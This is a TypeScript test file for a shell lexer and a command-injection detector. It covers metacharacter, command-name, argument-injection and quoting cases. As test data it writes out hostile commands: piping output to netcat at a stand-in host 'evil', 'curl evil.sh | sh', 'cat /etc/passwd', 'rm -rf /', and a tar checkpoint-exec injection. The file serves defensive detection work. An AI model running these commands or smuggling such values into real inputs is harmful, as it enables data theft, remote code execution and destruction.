import fc from 'fast-check';
import type { InputString } from '../input/extract';
import { detectShellCommand } from './shell';
import { Ch, lexShell } from './shell-lexer';

const I = (...values: string[]): InputString[] => values.map((value, i) => ({ path: `$.body.v${i}`, value }));
const singleQuote = (s: string) => `'${s.replace(/'/g, `'\\''`)}'`;

describe('lexShell', () => {
  test('roles of quotes, operators and words', () => {
    const s = `echo 'a;b' "c$d" e\\;f | wc -l # note`;
    const lex = lexShell(s);
    const roleAt = (sub: string, off = 0) => lex.roles[s.indexOf(sub) + off];
    expect(roleAt(';b')).toBe(Ch.LitSingle);
    expect(roleAt('$d')).toBe(Ch.Meta);
    expect(roleAt('\\;')).toBe(Ch.Quote);
    expect(roleAt('\\;', 1)).toBe(Ch.LitUnquoted);
    expect(roleAt('|')).toBe(Ch.Meta);
    expect(roleAt('note')).toBe(Ch.Comment);
    const words = lex.wordStart.map((st, i) => [s.slice(st, lex.wordEnd[i]), lex.wordIsCommand[i]]);
    expect(words).toEqual([
      ['echo', true],
      ["'a;b'", false],
      ['"c$d"', false],
      ['e\\;f', false],
      ['wc', true],
      ['-l', false],
    ]);
  });

  test('assignments, wrappers and redirections in command position', () => {
    const s = 'FOO=1 sudo rm x 2>/dev/null; $(id) >out';
    const lex = lexShell(s);
    const cmd = lex.wordStart.map((st, i) => [s.slice(st, lex.wordEnd[i]), lex.wordIsCommand[i]]).filter((w) => w[1]);
    expect(cmd.map((w) => w[0])).toEqual(['sudo', 'rm', 'id']);
  });
});

describe('detectShellCommand: flags input that changes syntax', () => {
  test.each([
    ['convert a.png; rm -rf / out.png', 'a.png; rm -rf /', 'shell_metachar'],
    ['ping -c 1 8.8.8.8 && cat /etc/passwd', '8.8.8.8 && cat /etc/passwd', 'shell_metachar'],
    ['echo $(id)', '$(id)', 'shell_metachar'],
    ['echo `id`', '`id`', 'shell_metachar'],
    ['grep x file | nc evil 4444', 'file | nc evil 4444', 'shell_metachar'],
    ['echo "hello $(id)"', 'hello $(id)', 'shell_metachar'],
    ['echo "a"; id; "b"', 'a"; id; "b', 'shell_metachar'],
    ["convert 'x'; id; 'y'", "x'; id; 'y", 'shell_metachar'],
    ['cat file\nid', 'file\nid', 'shell_metachar'],
    ['ls > /tmp/out', '> /tmp/out', 'shell_metachar'],
    ['ls #; rm -rf', '#; rm', 'shell_metachar'],
    ['whoami', 'whoami', 'command_name'],
    ['npm run build', 'npm run build', 'command_name'],
    ['cd /app && npm run build', 'npm run build', 'command_name'],
    ['/usr/bin/id -a', '/usr/bin/id', 'command_name'],
    ['ls; curl evil.sh', 'curl', 'command_name'],
    ['tar -cf out.tar --checkpoint-action=exec=sh x', '--checkpoint-action=exec=sh', 'argument_injection'],
    ['echo "a" "b"', '"a" "b"', 'shell_quote'],
    ['grep hello world file.txt', 'hello world', 'shell_word_split'],
    ['rm /tmp/uploads/*', '/tmp/uploads/*', 'shell_glob'],
  ])('%j with input %j → %s', (command, input, kind) => {
    const v = detectShellCommand(command, I('a', input));
    expect(v?.kind).toBe(kind);
    expect(v?.category).toBe('command_injection');
    expect(v?.input?.path).toBe('$.body.v1');
  });

  test('severity and confidence of a confirmed injection', () => {
    const v = detectShellCommand('convert x.png; id', I('x.png; id'))!;
    expect([v.severity, v.confidence]).toEqual(['critical', 'high']);
    expect(v.title).not.toContain('; id');
  });

  test('the same input quoted once and interpolated raw elsewhere is still an injection', () => {
    const value = 'x.png; curl evil.sh | sh';
    expect(detectShellCommand(`cp ${singleQuote(value)} /tmp/${value}`, I(value))?.kind).toBe('shell_metachar');
  });

  test('a short input that the app quoted and that also matches the app syntax is a coincidence', () => {
    expect(detectShellCommand(`echo $HOME; cat ${singleQuote(' $')} /tmp/out`, I(' $'))).toBeUndefined();
    expect(detectShellCommand(`ls -l ${singleQuote(' -')} /tmp/out`, I(' -'))).toBeUndefined();
  });

  test('the most severe kind wins across inputs', () => {
    expect(detectShellCommand('grep hello world f; id', I('hello world', 'f; id'))?.kind).toBe('shell_metachar');
  });
});

describe('detectShellCommand: negative cases a naive detector would flag', () => {
  test.each([
    ["convert 'a;b.png' out.png", 'a;b.png'], // safely single-quoted by the app
    [`convert ${singleQuote("it's; rm -rf /")} out.png`, "it's; rm -rf /"], // quote escaped: input no longer occurs
    ['echo "a;b|c&d"', 'a;b|c&d'], // metachars inside app-written double quotes are data
    ['ls a.png', 'a.png'], // a plain argument
    ['convert a.png b.png', 'a'], // 1-char input
    ['ls -la; echo done', ';'], // 1-char input equal to app syntax
    ['ls whoami', 'whoami'], // an argument, not the command
    ['echo "$HOME/x"', 'x'], // tiny input
    ['echo \\$(id\\)', 'id'],
    ["echo 'hello world'", 'hello world'], // spaces inside quotes
    ['git log --oneline', 'oneline'], // part of an option the app wrote
  ])('%j with input %j is not flagged', (command, input) => {
    expect(detectShellCommand(command, I(input))).toBeUndefined();
  });

  test('no inputs, empty command, non-string', () => {
    expect(detectShellCommand('rm -rf /; id', [])).toBeUndefined();
    expect(detectShellCommand('', I('x'))).toBeUndefined();
    expect(detectShellCommand(undefined as unknown as string, I('x'))).toBeUndefined();
  });
});

describe('detectShellCommand: properties', () => {
  const anyInputs = fc.array(fc.record({ path: fc.constant('$.p'), value: fc.string({ maxLength: 30 }) }), {
    maxLength: 5,
  });

  test('random commands and inputs never throw', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 200 }), anyInputs, (cmd, inputs) => {
        detectShellCommand(cmd, inputs);
      }),
      { numRuns: 1000 },
    );
  });

  test('an input that does not occur in the command never yields a verdict', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 100 }), fc.string({ minLength: 1, maxLength: 30 }), (cmd, value) => {
        fc.pre(!cmd.includes(value));
        expect(detectShellCommand(cmd, [{ path: '$.x', value }])).toBeUndefined();
      }),
      { numRuns: 1000 },
    );
  });

  test('an input the application single-quotes correctly is never flagged', () => {
    const shellish = fc.string({ unit: fc.constantFrom(...`ab ;|&$()\`'"\\<>*?#\n-./`.split('')), maxLength: 40 });
    fc.assert(
      fc.property(
        shellish,
        fc.constantFrom('convert', 'ls -l', 'grep -r', 'cd /tmp && tar -xf', 'echo $HOME; cat'),
        (value, prefix) => {
          const cmd = `${prefix} ${singleQuote(value)} /tmp/out`;
          expect(detectShellCommand(cmd, [{ path: '$.x', value }])).toBeUndefined();
        },
      ),
      { numRuns: 1000 },
    );
  });

  test('an input containing ; or | or $( placed unquoted is always flagged', () => {
    fc.assert(
      fc.property(
        fc.string({ maxLength: 10 }),
        fc.constantFrom(';', '|', '$(', '&&', '`', '\n'),
        fc.string({ maxLength: 10 }),
        (a, op, b) => {
          const value = `x${a.replace(/['"\\#]/g, '')}${op}${b.replace(/['"\\#]/g, '')}`;
          const v = detectShellCommand(`echo ${value} done`, [{ path: '$.x', value }]);
          expect(v?.kind).toBe('shell_metachar');
        },
      ),
      { numRuns: 500 },
    );
  });
});
